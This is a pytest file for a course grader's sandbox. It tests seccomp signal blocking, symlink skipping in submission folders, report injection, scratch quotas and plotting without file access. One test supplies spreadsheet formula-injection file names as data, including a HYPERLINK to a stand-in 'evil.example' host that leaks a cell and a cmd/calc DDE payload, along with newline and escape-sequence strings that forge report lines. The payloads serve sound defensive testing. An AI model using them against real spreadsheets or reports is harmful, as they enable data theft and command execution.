"""More attacks on the sandbox and on what the grader writes (second review): the seccomp filter
on its own, report injection through file names, and links in a submissions folder."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap

import pytest

from attnlab import i18n
from attnlab.grading.confine import seccomp_supported
from attnlab.grading.runner import ROOT


@pytest.mark.skipif(not seccomp_supported(), reason="no libseccomp here")
def test_seccomp_alone_keeps_signals_off_the_process_group():
    """kill(0, sig) signals the caller's whole process group: for a child, the worker and every
    other learner's child. Where neither a uid of its own (not root) nor Landlock's signal scoping
    (ABI < 6) stands in the way, seccomp is all there is, so it must refuse pid 0 (and -1)."""
    script = textwrap.dedent("""
        import os, select, signal, sys, time
        sys.path.insert(0, sys.argv[1])
        from attnlab.grading import confine
        watch, alive = os.pipe()  # reads EOF once the sibling, the one holding `alive`, is dead
        sibling = os.fork()
        if sibling == 0:  # another child of the same worker
            os.close(watch)
            for fd in (1, 2):  # not holding the test's output open
                os.dup2(os.open(os.devnull, os.O_WRONLY), fd)
            time.sleep(30)
            os._exit(0)
        os.close(alive)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        assert confine.apply_seccomp()
        seen = []
        for target, sig in ((0, signal.SIGTERM), (-1, 0)):  # -1: only probed (signal 0)
            try:
                os.kill(target, sig)
                seen.append("sent")
            except PermissionError:
                seen.append("refused")
        os.kill(os.getpid(), 0)  # itself: still allowed
        dead = select.select([watch], [], [], 1.0)[0]
        seen.append("sibling killed" if dead else "sibling alive")
        print(sibling, " ".join(seen))
    """)
    done = subprocess.run([sys.executable, "-c", script, str(ROOT)], capture_output=True,
                          text=True, timeout=60, start_new_session=True)  # a group of its own
    sibling, _, seen = done.stdout.strip().partition(" ")
    try:
        os.kill(int(sibling), 9)
    except (OSError, ValueError):
        pass
    assert seen == "refused refused sibling alive", (done.stdout, done.stderr)


def test_links_out_of_a_submissions_folder_are_not_followed(tmp_path):
    """A student's upload unpacked as a link (zip and tar keep links) to a reference solution, or
    to any file of the grader's machine, is not graded: every link in a folder is listed as
    skipped (one inside the folder too: its file is graded once, at its own place; one that loops
    back to the folder is not walked)."""
    from pathlib import Path

    from attnlab.grading.submissions import collect

    folder = tmp_path / "submissions"
    folder.mkdir()
    (folder / "alice.py").write_text("x = 1\n")
    solution = Path(ROOT) / "exercises" / "ex_stable_softmax" / "solution.py"
    (folder / "mallory.py").symlink_to(solution)
    (folder / "mallory_dir").symlink_to(solution.parent)
    (folder / "loop").symlink_to(folder)
    (folder / "again.py").symlink_to(folder / "alice.py")
    files, skipped = collect([str(folder)])
    assert [f.name for f in files] == ["alice.py"]
    assert {Path(s.path).name: s.reason for s in skipped} == {
        "mallory.py": "skip.link", "mallory_dir": "skip.link", "loop": "skip.link",
        "again.py": "skip.link"}


def test_file_names_cannot_inject_into_reports():
    """A file name is the student's text too: in the CSV no cell may start a formula, and in the
    text report no line may be forged (newline, carriage return, escape sequences)."""
    import csv
    import io

    import exercises
    from attnlab.grading.model import Outcome
    from attnlab.grading.report import SubmissionReport, to_csv, to_text
    from attnlab.grading.submissions import Skipped

    e = exercises.BY_ID["ex_omega"]
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open").py', "+1+cmd|' /C calc'!A0.py",
             "@SUM(1).py", "-2+3.py", "\tx.py", "bob.py\nalice.py: 99 / 99\n.py",
             "eve\r\x1b[2Kcarol.py: 99 / 99.py"]
    reports = [SubmissionReport(n, [(e, Outcome("failed", 0, e.points, "feedback.raised",
                                                {"error": "x"}))]) for n in names]
    rows = list(csv.reader(io.StringIO(to_csv(reports))))[1:]
    assert len(rows) == len(names)
    assert all(row[0][:1] not in "=+-@\t\r" for row in rows), [r[0] for r in rows]
    text = to_text(reports, skipped=[Skipped("dave.py\nalice.py: 99 / 99", "skip.suffix")])
    assert not any(c in text for c in "\r\x1b"), text
    assert not any(line.startswith(("alice.py", "carol.py")) for line in text.split("\n")), text


# --- the scratch quota without root: the worker measures and kills ------------------------------

def test_scratch_over_cap_counts_bytes_files_and_never_follows_links(tmp_path):
    from attnlab.grading.confine import scratch_over_cap

    small = tmp_path / "small"
    small.mkdir()
    (small / "a.txt").write_bytes(b"x" * 4096)
    (small / "outside").symlink_to("/usr")  # a link to a big tree is one entry, not the tree
    assert not scratch_over_cap(str(small), max_bytes=2**20, max_files=10)
    big = tmp_path / "big"
    big.mkdir()
    for i in range(3):
        (big / f"f{i}").write_bytes(os.urandom(2**20))
    assert scratch_over_cap(str(big), max_bytes=2 * 2**20, max_files=100)
    deep = tmp_path / "many"
    path = deep
    for i in range(40):  # files hidden in nested folders are found too
        path = path / f"d{i}"
    path.mkdir(parents=True)
    for i in range(30):
        (path / f"e{i}").touch()
    assert scratch_over_cap(str(deep), max_bytes=2**30, max_files=50)
    assert not scratch_over_cap(str(deep), max_bytes=2**30, max_files=100)


def test_the_worker_kills_a_child_whose_scratch_outgrows_the_quota(tmp_path, monkeypatch):
    from attnlab.grading import confine, worker
    from attnlab.grading.runner import Sandbox

    monkeypatch.setattr(confine, "SCRATCH_FILES", 20)
    quiet, noisy = tmp_path / "quiet", tmp_path / "noisy"
    quiet.mkdir(), noisy.mkdir()
    for i in range(25):
        (noisy / f"f{i}").touch()
    procs = {name: subprocess.Popen(["sleep", "30"]) for name in ("quiet", "noisy")}
    children = {procs["quiet"].pid: str(quiet), procs["noisy"].pid: str(noisy)}
    overflowed: dict[int, str] = {}
    try:
        worker._watch_scratch(children, overflowed)
        assert procs["noisy"].wait(timeout=10) == -signal.SIGKILL
        assert overflowed == {procs["noisy"].pid: "scratch"}
        assert procs["quiet"].poll() is None  # the other learner's child runs on
    finally:
        for p in procs.values():
            p.kill()
            p.wait()
    # The runner names it in the learner's terms, as its own verdict (never the child's).
    key, args = Sandbox(exercises=[])._death("eof", {"signal": 9, "reason": "scratch"})
    assert key == "feedback.scratch_full" and args == {"mib": 64, "files": 4096}
    text = i18n.t(key, "zh", **args)
    assert "64 MiB" in text and "4096" in text


PLOT_WITHOUT_FILES = r"""
import errno, io, os, sys
sys.path.insert(0, sys.argv[1])
import numpy as np
from attnlab.grading.preload import plotting as _preload_plotting
_preload_plotting()
for fd in range(3, 256):  # the child closes every descriptor it inherits
    try:
        os.close(fd)
    except OSError:
        pass
import pyseccomp as sc
f = sc.SyscallFilter(sc.ALLOW)
for call in ("open", "openat", "openat2"):
    f.add_rule(sc.ERRNO(errno.EPERM), call)
f.load()
try:
    open(sys.argv[0] if sys.argv[0] != "-c" else "/etc/hostname").close()
    print("OPENED")
except PermissionError:
    pass
import matplotlib.pyplot as plt
fig, ax = plt.subplots()
ax.plot(np.arange(5), np.arange(5) ** 2, label="x²")
plt.title("Attention weights, head 2")
plt.xlabel("keys $k_j$")
plt.legend()
plt.imshow(np.random.rand(6, 6), cmap="viridis")
plt.colorbar()
buf = io.BytesIO()
plt.savefig(buf, format="png")
plt.show()  # Agg: nothing happens
print("PNG" if buf.getvalue()[:4] == b"\x89PNG" else "NOPNG", len(buf.getvalue()))
"""


@pytest.mark.skipif(not seccomp_supported(), reason="needs seccomp")
def test_matplotlib_draws_in_a_child_that_can_open_no_file(tmp_path):
    """Issue 19 point 2: the worker preloads matplotlib and what it reads lazily (font list,
    fonts, a first draw), so plotting works where every open()/openat() is refused."""
    root = str(ROOT)
    proc = subprocess.run([sys.executable, "-c", PLOT_WITHOUT_FILES, root], capture_output=True,
                          text=True, timeout=120, env={"PATH": "/usr/bin:/bin",
                                                       "HOME": str(tmp_path)})
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "OPENED" not in proc.stdout and "PNG" in proc.stdout.split(), proc.stdout


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                    reason="only root's children take uids of their own")
def test_a_temporary_folder_the_children_cannot_pass_through_is_not_where_their_home_goes(
        tmp_path, monkeypatch):
    """As root on an H200, TMPDIR under a 0700 folder: every child (a uid of its own) failed to
    reach its scratch folder, and every answer was "the grader's sandbox failed"."""
    import tempfile

    from attnlab.grading import runner

    closed = tmp_path / "closed"
    (closed / "t").mkdir(parents=True)
    os.chmod(closed, 0o700)
    monkeypatch.setattr(tempfile, "tempdir", str(closed / "t"))
    assert runner.home_base() == "/tmp"
    sb = runner.Sandbox("cpu", exercises=[])
    try:
        sb.start()
        assert os.path.dirname(sb._home) == "/tmp"
    finally:
        sb.close()
    monkeypatch.setattr(tempfile, "tempdir", "/tmp")
    assert runner.home_base() is None  # a folder others can pass through is kept
